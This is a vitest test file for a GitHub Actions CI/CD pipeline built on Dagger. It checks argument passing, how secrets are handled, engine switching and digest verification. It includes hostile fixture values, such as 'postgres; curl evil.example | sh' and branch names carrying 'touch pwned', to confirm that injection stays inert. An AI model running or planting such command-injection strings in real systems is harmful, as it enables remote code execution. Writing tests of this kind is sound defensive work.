/**
 * python-pipeline.yml's and cd.yml's shell steps executed the way the runner executes them (`bash --noprofile
 * --norc -eo pipefail`, the step's `env:` evaluated with GitHub's expression engine), with a stand-in `dagger`
 * on PATH that records its arguments and the environment it was given. What it shows: the argv bash hands
 * dagger is one the module's surface accepts, with every optional input set or none; the engine switch
 * (`vars.DAGGER_ENGINE` -> `_EXPERIMENTAL_DAGGER_RUNNER_HOST`, for the publishing step of a protected push only; unset, the
 * variable is empty, which cmd/dagger/engine.go at dagger v0.21.8 treats as unset: nothing changes), the
 * Dagger Cloud token reaching dagger as environment only, no secret value on any command line, and the
 * trace URL taken from dagger's stderr into the job summary and the step's outputs; CD's verified digest
 * becoming its step's output, and nothing else.
 */
import { spawnSync } from "node:child_process";
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { parseRelease } from "../../dagger/src/settings/release.js";
import { branchTag } from "../../dagger/src/settings/tags.js";
import { planPublish } from "../../dagger/src/stages/publish.js";
import { checkDaggerCall } from "../helpers/dagger-cli";
import { expr, readWorkflow } from "../helpers/workflow-files";
import {
  type ExpressionContext,
  evaluate,
  interpolate,
  jobsOf,
  type Mapping,
  scalarText,
} from "../helpers/workflow-model";

const pipeline = readWorkflow(".github/workflows/python-pipeline.yml");
const cd = readWorkflow(".github/workflows/cd.yml");
const PUBLISH_STEP = "Run the pipeline, publish, sign, comment";
const READ_ONLY_STEP = "Run the pipeline (no publish, no signature, no comment)";
const SUMMARY_STEP = "Add the pipeline summary to the job summary, and the annotations";

function step(name: string, wf = pipeline): Mapping {
  const found = jobsOf(wf)
    .flatMap((job) => job.steps)
    .find(({ step }) => step.name === name)?.step;
  if (!found) throw new Error(`no step ${name}`);
  return found;
}

/** Secret values; none may appear in an argument of any process the step starts. */
const SECRETS = {
  GITHUB_TOKEN: "ghs_job-token-value",
  DAGGER_CLOUD_TOKEN: "dag_cloud-token-value",
  TEST_ENV_FILE: "SECRET_KEY=env-file-value",
};
const OIDC_TOKEN = "oidc-request-token-value";

function context(vars: Mapping, publish = true): ExpressionContext {
  return {
    github: {
      event_name: "push",
      repository: "acme/service",
      actor: "alice",
      ref_name: "main",
      ref_type: "branch",
      // main has branch protection (docs/github-setup.md): the only runs the shared engine serves
      ref_protected: true,
      head_ref: "",
      sha: "3f2a9c1".padEnd(40, "0"),
      event: {},
    },
    inputs: {
      app: "sample-app",
      "python-versions": "3.12,3.13",
      threshold: 90,
      publish,
      module: ".",
      "smoke-command": "",
      "smoke-expect": "",
      dockerfile: "",
      "build-context": "",
      groups: "",
      extras: "",
      env: "",
      services: "",
      typecheck: "",
      "diff-threshold": 0,
    },
    vars,
    secrets: SECRETS,
  };
}

const dirs: string[] = [];
afterEach(() => {
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});

type Run = {
  status: number | null;
  argv: string[];
  calls: string[][];
  env: Record<string, string>;
  dir: string;
  stderr: string;
  stdout: string;
};

/** What the stand-in dagger prints, and a script to run instead of the step's own (a broken copy). */
type StandIn = {
  stderr?: string;
  stdout?: string;
  status?: number;
  script?: string;
  runId?: string;
  /** the calling job grants no id-token: write, so the runner sets no OIDC variables */
  noOidc?: boolean;
  /** files in the step's working directory, by path */
  files?: Record<string, string>;
};

/** Runs a step's script with its evaluated env, a stand-in dagger, and the runner's own variables. */
function runStep(name: string | Mapping, ctx: ExpressionContext, standIn: StandIn = {}): Run {
  const stepOf = typeof name === "string" ? step(name) : name;
  const dir = mkdtempSync(join(tmpdir(), "pipeline-step-"));
  dirs.push(dir);
  const bin = join(dir, "bin");
  spawnSync("mkdir", ["-p", bin, join(dir, "temp"), join(dir, "work")]);
  writeFileSync(join(dir, "dagger-stderr.txt"), standIn.stderr ?? "");
  writeFileSync(join(dir, "dagger-stdout.txt"), standIn.stdout ?? "");
  // Records argv (one per line) and the variables dagger reads, then prints the scripted stderr and stdout.
  writeFileSync(
    join(bin, "dagger"),
    [
      "#!/bin/bash",
      `printf '%s\\n' "$@" > "${dir}/argv"`,
      `printf '%s\\n' "$@" -- >> "${dir}/calls"`,
      `printf 'RUNNER_HOST=%s\\nRUNNER_HOST_SET=%s\\nCLOUD_TOKEN=%s\\n' "$_EXPERIMENTAL_DAGGER_RUNNER_HOST" "\${_EXPERIMENTAL_DAGGER_RUNNER_HOST+yes}" "$DAGGER_CLOUD_TOKEN" > "${dir}/env"`,
      `cat "${dir}/dagger-stderr.txt" >&2`,
      `cat "${dir}/dagger-stdout.txt"`,
      // The process tree: every command line the step's processes had (ps of this session).
      `ps -eo args= >> "${dir}/ps" 2>/dev/null || true`,
      `exit ${standIn.status ?? 0}`,
    ].join("\n"),
  );
  chmodSync(join(bin, "dagger"), 0o755);
  for (const [path, text] of Object.entries(standIn.files ?? {})) {
    mkdirSync(dirname(join(dir, "work", path)), { recursive: true });
    writeFileSync(join(dir, "work", path), text);
  }
  const stepEnv = Object.fromEntries(
    Object.entries((stepOf.env as Mapping | undefined) ?? {}).map(([k, v]) => [
      k,
      interpolate(scalarText(v) ?? "", ctx),
    ]),
  );
  const env: Record<string, string> = {
    PATH: `${bin}:${process.env.PATH ?? ""}`,
    HOME: dir,
    GITHUB_REPOSITORY: "acme/service",
    GITHUB_SERVER_URL: "https://github.com",
    GITHUB_API_URL: "https://api.github.com",
    GITHUB_RUN_ID: standIn.runId ?? "42",
    GITHUB_RUN_ATTEMPT: "1",
    GITHUB_ACTOR: "alice",
    ...(standIn.noOidc
      ? {}
      : {
          ACTIONS_ID_TOKEN_REQUEST_URL: "https://runner.example/token",
          ACTIONS_ID_TOKEN_REQUEST_TOKEN: OIDC_TOKEN,
        }),
    RUNNER_TEMP: join(dir, "temp"),
    GITHUB_STEP_SUMMARY: join(dir, "summary.md"),
    GITHUB_OUTPUT: join(dir, "output"),
    ...stepEnv,
  };
  const result = spawnSync(
    "bash",
    ["--noprofile", "--norc", "-eo", "pipefail", "-c", standIn.script ?? String(stepOf.run)],
    {
      cwd: join(dir, "work"),
      env,
      encoding: "utf8",
    },
  );
  const read = (file: string) => {
    try {
      return readFileSync(join(dir, file), "utf8");
    } catch {
      return "";
    }
  };
  return {
    status: result.status,
    argv: read("argv").split("\n").filter(Boolean),
    // every call, in order: one argv per call
    calls: read("calls")
      .split("\n--\n")
      .filter(Boolean)
      .map((c) => c.split("\n").filter(Boolean)),
    env: Object.fromEntries(
      read("env")
        .split("\n")
        .filter(Boolean)
        .map((l) => l.split(/=(.*)/s).slice(0, 2)),
    ) as Record<string, string>,
    dir,
    stderr: result.stderr,
    stdout: result.stdout,
  };
}

describe("a calling job without id-token: write", () => {
  // GitHub sets ACTIONS_ID_TOKEN_REQUEST_URL and _TOKEN only for a job granted id-token: write ("Security
  // hardening with OpenID Connect": "Adding permissions settings"); the publishing step needs them to sign.
  it("stops the publishing step before any work, naming the permission", () => {
    const run = runStep(PUBLISH_STEP, context({}), { noOidc: true });
    expect(run.status).toBe(1);
    expect(run.argv).toEqual([]); // dagger never started
    expect(run.stdout).toMatch(
      /^::error::id-token: write is missing on the job that calls python-pipeline\.yml: .*Nothing was built or pushed\./m,
    );
  });

  it("leaves the read-only step alone: it signs nothing", () => {
    const run = runStep(READ_ONLY_STEP, context({}, false), { noOidc: true });
    expect(run.status, run.stderr).toBe(0);
    expect(run.argv).toContain("ci-run");
  });
});

describe("one commit, two runs: GitHub fires a push run and a pull_request run", () => {
  // While a pull request from a branch of this repository is open, a push to that branch fires both events
  // for one commit, in different concurrency groups (GitHub's "Events that trigger workflows": push and
  // pull_request synchronize). Each run's publish step hands the module its flags; the module's own plan
  // (planPublish) says which tags each writes. Only a push may move a branch tag; nothing else is shared.
  const SHA = "3f2a9c1".padEnd(40, "0");
  const pushOf = (branch: string): ExpressionContext => ({
    ...context({}),
    github: { ...context({}).github, event_name: "push", ref_name: branch, head_ref: "", sha: SHA },
  });
  const pullOf = (branch: string): ExpressionContext => ({
    ...context({}),
    github: {
      ...context({}).github,
      event_name: "pull_request",
      ref_name: "7/merge",
      head_ref: branch,
      event: {
        pull_request: { head: { sha: SHA, repo: { full_name: "acme/service" } }, user: { login: "alice" } },
      },
    },
  });
  /** The tags a run's publish step makes the module write, from the argv it gave the stand-in dagger. */
  const written = (ctx: ExpressionContext, runId: string, script?: string) => {
    const run = runStep(PUBLISH_STEP, ctx, { runId, ...(script ? { script } : {}) });
    expect(run.status, run.stderr).toBe(0);
    const flag = (name: string) => {
      const at = run.argv.indexOf(name);
      return at < 0 ? "" : (run.argv[at + 1] ?? "");
    };
    const release = flag("--release");
    const plan = planPublish(
      "ghcr.io",
      flag("--repository"),
      flag("--branch"),
      flag("--sha"),
      flag("--event"),
      flag("--run-id"),
      release ? parseRelease(release) : undefined,
    );
    return { tags: plan.tags, branchTag: branchTag(flag("--branch")), argv: run.argv };
  };

  it.each(["develop", "main", "feature/login"])("%s: the two runs' tags never overlap", (branch) => {
    const push = written(pushOf(branch), "1001");
    const pull = written(pullOf(branch), "1002");
    // the push moves its branch tag; the pull request run writes only its own run tag
    expect(push.tags).toEqual([push.branchTag, "run-1001-1"]);
    expect(pull.tags).toEqual(["run-1002-1"]);
    expect(push.tags.filter((t) => pull.tags.includes(t))).toEqual([]);
  });

  it("a push of a version tag is a release: --release with the tag instead of --branch, and the version's tag is written", () => {
    // GitHub's `ref_type` is "tag" and `ref_name` the tag's name for a tag push ("Contexts reference", github context)
    const tagPush = pushOf("v1.2.3");
    const ctx = { ...tagPush, github: { ...(tagPush.github as object), ref_type: "tag" } };
    const run = written(ctx, "1003");
    expect(run.argv.slice(run.argv.indexOf("ci-run"), run.argv.indexOf("--sha"))).toEqual([
      "ci-run",
      "--diff-threshold",
      "0",
      "--release",
      "v1.2.3",
    ]);
    expect(run.tags).toEqual(["1.2.3", "run-1003-1"]);
    // a pull request's run never releases, whatever its branch is called
    expect(written(pullOf("v1.2.3"), "1004").argv).not.toContain("--release");
  });

  it("would overlap in a broken copy without --run-id: both write sha-<7>", () => {
    const broken = String(step(PUBLISH_STEP).run).replace(/^.*--run-id .*$\n/m, "");
    const push = written(pushOf("develop"), "1001", broken);
    const pull = written(pullOf("develop"), "1002", broken);
    expect(push.tags.filter((t) => pull.tags.includes(t))).toEqual(["sha-3f2a9c1"]);
  });
});

describe("the engine switch", () => {
  const ENGINE = "tcp://dagger-engine.ci.internal:1234";

  it("with vars.DAGGER_ENGINE, the publishing run connects to that engine and sends its trace", () => {
    const run = runStep(PUBLISH_STEP, context({ DAGGER_ENGINE: ENGINE }));
    expect(run.status, run.stderr).toBe(0);
    expect(run.env).toMatchObject({ RUNNER_HOST: ENGINE, CLOUD_TOKEN: SECRETS.DAGGER_CLOUD_TOKEN });
    expect(run.argv.slice(0, 4)).toEqual(["--progress=plain", "-m", ".", "call"]);
  });

  it.each([
    [
      "a pull request from a branch of this repository (the publishing step runs, its code unreviewed)",
      {
        event_name: "pull_request",
        ref_protected: false,
        head_ref: "feature/x",
        event: { pull_request: { head: { sha: "9".repeat(40), repo: { full_name: "acme/service" } } } },
      },
    ],
    ["a push to a branch without protection", { ref_protected: false }],
  ])("gives %s the runner's own engine: the variable is empty", (_name, github) => {
    const ctx = context({ DAGGER_ENGINE: ENGINE });
    ctx.github = { ...ctx.github, ...github };
    const run = runStep(PUBLISH_STEP, ctx);
    expect(run.status, run.stderr).toBe(0);
    expect(run.env).toMatchObject({ RUNNER_HOST: "", CLOUD_TOKEN: SECRETS.DAGGER_CLOUD_TOKEN });
  });

  it("without it, nothing changes: the variable is empty (the CLI's own engine) and the call is the same", () => {
    const withEngine = runStep(PUBLISH_STEP, context({ DAGGER_ENGINE: ENGINE }));
    const without = runStep(PUBLISH_STEP, context({}));
    expect(without.status, without.stderr).toBe(0);
    expect(without.env.RUNNER_HOST).toBe("");
    expect(without.argv).toEqual(withEngine.argv);
  });

  it("without a Cloud token secret, DAGGER_CLOUD_TOKEN is empty, which the CLI ignores", () => {
    const ctx = context({});
    ctx.secrets = { GITHUB_TOKEN: SECRETS.GITHUB_TOKEN };
    expect(runStep(PUBLISH_STEP, ctx).env.CLOUD_TOKEN).toBe("");
  });

  it("never reaches the read-only run, whatever the variable says", () => {
    const run = runStep(READ_ONLY_STEP, context({ DAGGER_ENGINE: ENGINE }, false));
    expect(run.status, run.stderr).toBe(0);
    expect(run.env).toMatchObject({ RUNNER_HOST_SET: "", CLOUD_TOKEN: "" });
    expect(run.argv).not.toContain("--publish");
  });

  it("puts no secret value on any command line; dagger reads them as env:NAME", () => {
    const run = runStep(PUBLISH_STEP, context({ DAGGER_ENGINE: ENGINE }));
    const commandLines = [...run.argv, readFileSync(join(run.dir, "ps"), "utf8")].join("\n");
    for (const secret of [...Object.values(SECRETS), OIDC_TOKEN]) expect(commandLines).not.toContain(secret);
    expect(run.argv).toContain("env:GITHUB_TOKEN");
    expect(run.argv).toContain("env:ACTIONS_ID_TOKEN_REQUEST_TOKEN");
  });

  it("would see a secret expanded into an argument (a broken copy)", () => {
    const broken = String(step(PUBLISH_STEP).run).replace(
      "--github-token env:GITHUB_TOKEN",
      '--github-token "$GITHUB_TOKEN"',
    );
    const run = runStep(PUBLISH_STEP, context({}), { script: broken });
    expect(run.argv).toContain(SECRETS.GITHUB_TOKEN);
    expect(readFileSync(join(run.dir, "ps"), "utf8")).toContain(SECRETS.GITHUB_TOKEN);
  });

  it("would reach the engine from the read-only step of a broken copy that sets it there", () => {
    const ctx = context({ DAGGER_ENGINE: ENGINE }, false);
    const broken = `export _EXPERIMENTAL_DAGGER_RUNNER_HOST=${ENGINE}\n${String(step(READ_ONLY_STEP).run)}`;
    expect(runStep(READ_ONLY_STEP, ctx, { script: broken }).env.RUNNER_HOST).toBe(ENGINE);
  });

  it("passes the caller's inputs and the run's settings as constructor flags, before ci-run", () => {
    const run = runStep(PUBLISH_STEP, context({}));
    expect(run.status, run.stderr).toBe(0);
    expect(run.argv.slice(4, run.argv.indexOf("ci-run"))).toEqual([
      "--source=.",
      "--app",
      "sample-app",
      "--threshold",
      "90",
      "--python-versions",
      "3.12,3.13",
      "--event",
      "push",
      "--repository",
      "acme/service",
      "--run-url",
      "https://github.com/acme/service/actions/runs/42",
      // the run's own image tag, run-42-1: a push run and a pull_request run of one commit never share it
      "--run-id",
      "42-1",
      "--github-api-url",
      "https://api.github.com",
      "--oidc-request-url",
      "https://runner.example/token",
      "--oidc-request-token",
      "env:ACTIONS_ID_TOKEN_REQUEST_TOKEN",
      "--github-token",
      "env:GITHUB_TOKEN",
      "--registry-username",
      "alice",
      "--registry-password",
      "env:GITHUB_TOKEN",
      // the TEST_ENV_FILE secret, by name only
      "--env-file",
      "env:TEST_ENV_FILE",
    ]);
    expect(run.argv.slice(run.argv.indexOf("ci-run"))).toEqual([
      "ci-run",
      "--diff-threshold",
      "0",
      "--branch",
      "main",
      "--sha",
      "3f2a9c1".padEnd(40, "0"),
      "--publish",
      "--sign",
      "--exit-zero",
      "reports",
      "export",
      "--path",
      "reports",
    ]);
  });

  const EVERY_INPUT = {
    "smoke-command": "python -m app --check",
    "smoke-expect": "ok",
    dockerfile: "services/api/Dockerfile",
    "build-context": "services/api",
    groups: "testing",
    extras: "*",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a service reference, as --env takes it
    env: "APP_DB_URL=${DATABASE_URL}\nMODE=test\n",
    services: "postgres,redis",
    typecheck: "report",
    "diff-threshold": 80,
  };

  it.each([PUBLISH_STEP, READ_ONLY_STEP])(
    "hands dagger an argv the module's surface accepts, with no optional input or every one (%s)",
    (name) => {
      const base = context({}, name === PUBLISH_STEP);
      for (const inputs of [{ "python-versions": "" }, EVERY_INPUT]) {
        const run = runStep(name, { ...base, inputs: { ...(base.inputs as object), ...inputs } });
        expect(run.status, run.stderr).toBe(0);
        expect(checkDaggerCall(run.argv)).toEqual([]);
      }
    },
  );

  it("gives the env file to the publishing run alone, by name, and each env line as its own --env", () => {
    const inputs = (publish: boolean) => ({
      ...context({}, publish),
      inputs: { ...(context({}, publish).inputs as object), ...EVERY_INPUT },
    });
    const trusted = runStep(PUBLISH_STEP, inputs(true));
    expect(trusted.argv.join(" ")).toContain("--env-file env:TEST_ENV_FILE");
    expect(trusted.argv.join("\n")).not.toContain("env-file-value");
    const lines = trusted.argv.flatMap((a, i) => (a === "--env" ? [trusted.argv[i + 1]] : []));
    expect(lines).toEqual([`APP_DB_URL=${"$"}{DATABASE_URL}`, "MODE=test"]);
    const readOnly = runStep(READ_ONLY_STEP, inputs(false));
    expect(readOnly.argv).not.toContain("--env-file");
    expect(readOnly.argv.filter((a) => a === "--env")).toHaveLength(2);
    // without the secret, no --env-file at all
    const none = runStep(PUBLISH_STEP, { ...inputs(true), secrets: { ...SECRETS, TEST_ENV_FILE: "" } });
    expect(none.argv).not.toContain("--env-file");
  });

  it("would hand dagger an argv the surface refuses, from a broken copy with the old --service", () => {
    const broken = String(step(READ_ONLY_STEP).run).replace("(--services", "(--service");
    const ctx = context({}, false);
    const run = runStep(
      READ_ONLY_STEP,
      { ...ctx, inputs: { ...(ctx.inputs as object), ...EVERY_INPUT } },
      {
        script: broken,
      },
    );
    expect(checkDaggerCall(run.argv)).toEqual(["the constructor has no flag --service"]);
  });

  it.each([PUBLISH_STEP, READ_ONLY_STEP])(
    "passes services as a constructor flag, typecheck and diff-threshold as ci-run's, and leaves unset ones to the module (%s)",
    (name) => {
      const base = context({}, name === PUBLISH_STEP);
      const argv = (inputs: Record<string, unknown>) =>
        runStep(name, { ...base, inputs: { ...(base.inputs as object), ...inputs } }).argv;
      const settings = (a: string[]) => a.slice(a.indexOf("call") + 1, a.indexOf("--event"));
      const own = (a: string[]) => a.slice(a.indexOf("ci-run") + 1, a.indexOf("--branch"));
      const none = argv({});
      expect(settings(none)).not.toContain("--services");
      expect(own(none)).toEqual(["--diff-threshold", "0"]);
      const every = argv({ services: "postgres,redis", typecheck: "report", "diff-threshold": 80 });
      expect(settings(every).slice(-2)).toEqual(["--services", "postgres,redis"]);
      expect(own(every)).toEqual(["--diff-threshold", "80", "--typecheck", "report"]);
      // a hostile value stays one argument: it reaches dagger, never the shell
      expect(argv({ services: "postgres; curl evil.example | sh" })).toContain(
        "postgres; curl evil.example | sh",
      );
    },
  );

  it("runs the publishing step for a trusted push asked to publish, the read-only one otherwise", () => {
    const runs = (name: string, ctx: ExpressionContext) => evaluate(String(step(name).if), ctx);
    expect(runs(PUBLISH_STEP, context({}))).toBe(true);
    expect(runs(READ_ONLY_STEP, context({}))).toBe(false);
    expect(runs(PUBLISH_STEP, context({}, false))).toBe(false);
    expect(runs(READ_ONLY_STEP, context({}, false))).toBe(true);
  });
});

describe("the Dagger Cloud trace URL", () => {
  const TRACE = "https://dagger.cloud/acme/traces/4bf92f3577b34da6a3ce929d0e0e4736";

  function summaryAfter(
    stderr: string,
    reports: Record<string, string> = {},
  ): { summary: string; output: string } {
    const publish = runStep(PUBLISH_STEP, context({}), { stderr });
    for (const [name, text] of Object.entries(reports)) {
      mkdirSync(join(publish.dir, "work", "reports"), { recursive: true });
      writeFileSync(join(publish.dir, "work", "reports", name), text);
    }
    // The summary step runs in the same job: same RUNNER_TEMP, where the pipeline step left dagger's stderr.
    const env = {
      ...process.env,
      RUNNER_TEMP: join(publish.dir, "temp"),
      GITHUB_STEP_SUMMARY: join(publish.dir, "summary.md"),
      GITHUB_OUTPUT: join(publish.dir, "output"),
    };
    const result = spawnSync(
      "bash",
      ["--noprofile", "--norc", "-eo", "pipefail", "-c", String(step(SUMMARY_STEP).run)],
      {
        cwd: join(publish.dir, "work"),
        env,
        encoding: "utf8",
      },
    );
    expect(result.status, result.stderr).toBe(0);
    const read = (f: string) => {
      try {
        return readFileSync(join(publish.dir, f), "utf8");
      } catch {
        return "";
      }
    };
    return { summary: read("summary.md"), output: read("output") };
  }

  it("goes into the job summary and the step's trace-url output, from dagger's stderr", () => {
    const { summary, output } = summaryAfter(`some log\n\nFull trace at ${TRACE}\n\n`);
    expect(summary).toContain(`Dagger trace: ${TRACE}\n`);
    expect(output).toBe(`trace-url=${TRACE}\n`);
  });

  it("follows the run's summary with its timeline, the Mermaid chart of the stages, when the module wrote one", () => {
    const timeline = "### Timeline\n\n```mermaid\ngantt\n```\n";
    expect(summaryAfter("", { "summary.md": "## ✅ CI passed\n", "timeline.md": timeline }).summary).toBe(
      `## ✅ CI passed\n\n${timeline}`,
    );
    expect(summaryAfter("", { "summary.md": "## ✅ CI passed\n", "timeline.md": "" }).summary).toBe(
      "## ✅ CI passed\n",
    );
  });

  it("is left out when there is no trace (no token: only the setup hint)", () => {
    const { summary, output } = summaryAfter(
      "Setup tracing at https://dagger.cloud/traces/setup. To hide set DAGGER_NO_NAG=1\n",
    );
    expect(summary).not.toContain("Dagger trace");
    expect(output).toBe("");
  });

  it("is read in a later step, with no expression in its script", () => {
    expect(String(step(SUMMARY_STEP).run)).not.toContain(expr("").slice(0, 3));
    expect(step(SUMMARY_STEP).if).toBe(expr("!cancelled()"));
    const outputs = jobsOf(pipeline)[0]?.job.outputs as Mapping;
    expect(outputs["trace-url"]).toBe(expr("steps.summary.outputs.trace-url"));
  });
});

describe("CD's deploy step", () => {
  const DEPLOY_STEP = "Verify the signed image of the commit and smoke-test it";
  const deploy = step(DEPLOY_STEP, cd);
  const SHA = "3f2a9c1".padEnd(40, "0");
  const DIGEST = `sha256:${"ab".repeat(32)}`;
  const ctx = (branch = "main", vars: Record<string, string> = {}): ExpressionContext => ({
    github: {
      event_name: "workflow_run",
      repository: "acme/service",
      event: {
        workflow_run: { event: "push", head_branch: branch, head_sha: SHA, id: 7001, run_attempt: 2 },
      },
    },
    secrets: SECRETS,
    vars,
  });
  const read = (run: Run, file: string) => {
    try {
      return readFileSync(join(run.dir, file), "utf8");
    } catch {
      return "";
    }
  };

  it("gives settings to the constructor, the commit to deploy, and chains digest: an argv the surface accepts", () => {
    const run = runStep(deploy, ctx(), { stdout: DIGEST });
    expect(run.status, run.stderr).toBe(0);
    expect(checkDaggerCall(run.argv)).toEqual([]);
    expect(run.argv.slice(run.argv.indexOf("deploy"))).toEqual([
      "deploy",
      "--branch",
      "main",
      "--sha",
      SHA,
      // the image that CI run attempt published, and no other run
      "--run",
      "7001-2",
      "digest",
    ]);
    expect(run.argv.slice(0, run.argv.indexOf("deploy"))).toEqual([
      "--progress=plain",
      "call",
      "--event",
      "push",
      "--repository",
      "acme/service",
      "--run-url",
      "https://github.com/acme/service/actions/runs/42",
      "--github-api-url",
      "https://api.github.com",
      "--github-token",
      "env:GITHUB_TOKEN",
      "--registry-username",
      "alice",
      "--registry-password",
      "env:GITHUB_TOKEN",
      // the sample's own smoke run (the module's default only imports the app's packages)
      "--smoke-command",
      "python -m sample_app 2 3",
      "--smoke-expect",
      "5",
    ]);
    expect(run.argv.join("\n")).not.toContain(SECRETS.GITHUB_TOKEN);
  });

  it("deploys a version tag's push as --release, and passes the repository's PRODUCTION_FROM to the module", () => {
    const run = runStep(deploy, ctx("v1.2.3", { PRODUCTION_FROM: "releases" }), { stdout: DIGEST });
    expect(run.status, run.stderr).toBe(0);
    expect(checkDaggerCall(run.argv)).toEqual([]);
    expect(run.argv.slice(run.argv.indexOf("deploy"), run.argv.indexOf("--sha"))).toEqual([
      "deploy",
      "--release",
      "v1.2.3",
    ]);
    expect(run.argv.slice(0, 5)).toEqual([
      "--progress=plain",
      "call",
      "--production-from",
      "releases",
      "--event",
    ]);
    // main stays a branch whatever the setting
    const main = runStep(deploy, ctx("main", { PRODUCTION_FROM: "releases" }), { stdout: DIGEST });
    expect(main.argv.slice(main.argv.indexOf("deploy"), main.argv.indexOf("--sha"))).toEqual([
      "deploy",
      "--branch",
      "main",
    ]);
  });

  it("sets the step's digest output to the verified digest, and says so in the job summary", () => {
    const run = runStep(deploy, ctx(), { stdout: `${DIGEST}\n` });
    expect(run.status, run.stderr).toBe(0);
    expect(deploy.id).toBe("deploy");
    expect(read(run, "output")).toBe(`digest=${DIGEST}\n`);
    expect(read(run, "summary.md")).toBe(`Verified and smoke-tested ${DIGEST}; nothing was rolled out.\n`);
  });

  /** status.json of a CI run of several apps (ci --apps): which of them it published */
  const manyApps = (published: Record<string, boolean>) => ({
    "ci-reports/status.json": JSON.stringify({
      passed: true,
      apps: Object.entries(published).map(([app, pushed]) => ({
        app,
        passed: true,
        status: { image: { reference: `ghcr.io/acme/service/${app}:main`, published: pushed } },
      })),
      skipped: [{ app: "libs/other", reason: "no change" }],
    }),
  });

  it("deploys each app a run of several published, by its own image, and outputs every digest by app", () => {
    const files = manyApps({ "services/api": true, "libs/core": false, 'services/x"; touch pwned; "': true });
    const run = runStep(deploy, ctx(), { stdout: DIGEST, files });
    expect(run.status, run.stderr).toBe(0);
    expect(run.calls).toHaveLength(2);
    for (const call of run.calls) expect(checkDaggerCall(call)).toEqual([]);
    expect(run.calls.map((c) => c.slice(c.indexOf("--app"), c.indexOf("--app") + 2))).toEqual([
      ["--app", "services/api"],
      ["--app", 'services/x"; touch pwned; "'],
    ]);
    // the sample's smoke run is one app's: each app of several runs its own import check
    expect(run.calls[0]).not.toContain("--smoke-command");
    expect(read(run, "output")).toBe(
      `digests=${JSON.stringify({ "services/api": DIGEST, 'services/x"; touch pwned; "': DIGEST })}\n`,
    );
    expect(read(run, "summary.md")).toContain(`Verified and smoke-tested services/api: ${DIGEST}`);
  });

  it("deploys nothing when a run of several published nothing, and says so; a bad digest stops it", () => {
    const none = runStep(deploy, ctx(), { stdout: DIGEST, files: manyApps({ "libs/core": false }) });
    expect(none.status, none.stderr).toBe(0);
    expect(none.calls).toEqual([]);
    expect(read(none, "summary.md")).toBe("The CI run published no app's image; nothing to deploy.\n");
    const bad = runStep(deploy, ctx(), {
      stdout: "Deployment@xxh3:0",
      files: manyApps({ "services/api": true }),
    });
    expect(bad.status).not.toBe(0);
    expect(read(bad, "output")).toBe("");
  });

  it("keeps a hostile branch name one argument", () => {
    const run = runStep(deploy, ctx('main"; touch pwned; "'), { stdout: DIGEST });
    expect(run.argv).toContain('main"; touch pwned; "');
  });

  it.each([
    ["prints no digest", { stdout: "" }],
    ["prints a digest and another output line", { stdout: `${DIGEST}\nimage=attacker.example/x` }],
    ["prints an object's ID", { stdout: "Deployment@xxh3:0123456789abcdef" }],
    ["fails (a refused or failed deploy)", { stdout: DIGEST, status: 1 }],
  ])("sets no output and fails when dagger %s", (_name, standIn) => {
    const run = runStep(deploy, ctx(), standIn);
    expect(run.status).not.toBe(0);
    expect(read(run, "output")).toBe("");
  });
});
